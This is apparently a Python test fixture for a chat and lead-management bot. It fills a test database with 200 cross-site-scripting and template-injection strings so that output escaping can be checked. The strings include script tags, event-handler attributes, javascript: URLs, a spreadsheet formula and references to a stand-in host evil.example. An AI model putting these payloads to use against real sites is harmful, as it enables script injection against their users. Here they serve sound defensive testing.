"""Two hundred strings that would run somewhere, and a database that is full of them."""

from __future__ import annotations

import asyncio
import datetime as dt
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from bot.deskwork.excluding import put_on_list
from bot.deskwork.keeping import keep_canned, save_view
from bot.deskwork.once import By
from bot.deskwork.speaking import note
from bot.ports import Inbound
from bot.settings import Settings, secret_key
from bot.store.database import open_database
from bot.store.migrations import migrate
from bot.store.moments import micros
from bot.store.people import leads
from bot.store.secrets import open_secrets
from bot.transaction import Transaction
from dialogs.conversation.events import Said
from dialogs.conversation.state import Profile
from tests.bot.clock import SteeredClock
from tests.bot.rig import Rig

RUN = "alert(document.domain)"
SHAPES = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<a href=javascript:{run}>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<style>@import 'javascript:{run}'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<object data=javascript:{run}></object>",
    "<embed src=//evil.example/x.swf>",
    "<div hx-get=/desk hx-trigger=load hx-on::load={run}></div>",
    "<div data-live=/logout data-text=x data-copy=x></div>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "{{{{ 7 * 7 }}}}{{% for x in () %}}{run}",
    "${{{run}}}<%= {run} %>#{{{run}}}",
    "javascript:{run}//",
    "x' onmouseover='{run}' y='",
    'x" onmouseover="{run}" y="',
    "x` onmouseover={run} y=`",
    "'-{run}-'",
    '"-{run}-"',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\u202e<script>{run}</script>\u202c",
    '=HYPERLINK("javascript:{run}")',
    "<p style=position:fixed;inset:0;background:red>{run}</p>",
    "\x0b<script\x0c>{run}</script\t>",
)
DRESSES = ("{}", "Анна {}", '">{}', "'>{}<b x='", "</textarea></title></style>{}")
STRINGS = [dress.format(shape.format(run=RUN)) for shape in SHAPES for dress in DRESSES]


def fill(folder: Path) -> None:
    """Put every string into every field that pages show."""
    folder.mkdir(parents=True)
    with ThreadPoolExecutor(1) as thread:
        thread.submit(asyncio.run, _fill(folder)).result()


async def _fill(folder: Path) -> None:

    settings = Settings(data=folder)
    key = secret_key(settings)
    database = open_database(settings.store)
    await database.transact(migrate)
    clock = SteeredClock(dt.datetime.now(dt.UTC) - dt.timedelta(hours=1))
    secrets = await database.transact(
        lambda c: open_secrets(c, key, now=micros(clock()))
    )
    rig = Rig(database, secrets, clock)
    for place in range(0, len(STRINGS), 50):
        await rig.intake.accept(
            [
                Inbound(
                    channel="webchat",
                    chat=str(number),
                    external_id=str(number),
                    event=Said(at=clock(), text=STRINGS[number]),
                    profile=Profile(name=STRINGS[number], username=STRINGS[number]),
                )
                for number in range(place, place + 50)
            ]
        )
        while await rig.turns.step():
            pass
    await rig.do(_work)
    # All strings as words and notes of one lead.
    for text in STRINGS:
        await rig.intake.accept([rig.said(text, "all")])
    while await rig.turns.step():
        pass
    for number, text in enumerate(STRINGS[:150]):
        by = By("olga", text, f"all{number}")
        await rig.do(lambda tx, b=by, t=text: note(tx, b, 201, text=t))  # type: ignore[misc]  # bound at once
    await database.close()


def _work(tx: Transaction) -> None:
    for number, text in enumerate(STRINGS):
        lead = number + 1
        tx.connection.execute(
            leads.update()
            .where(leads.c.id == lead)
            .values(
                source=text[:80],
                campaign=text[:80],
                reason=text,
                junk=text,
                stage="waiting" if number % 2 else "bad",
            )
        )
        put_on_list(tx, By("olga", text, f"x{number}"), lead, reason=text)
        keep_canned(tx, "olga", script="", name=f"{number}{text}", text=text)
        if number < 100:
            save_view(tx, "olga", name=text, query=text, is_shared=True)
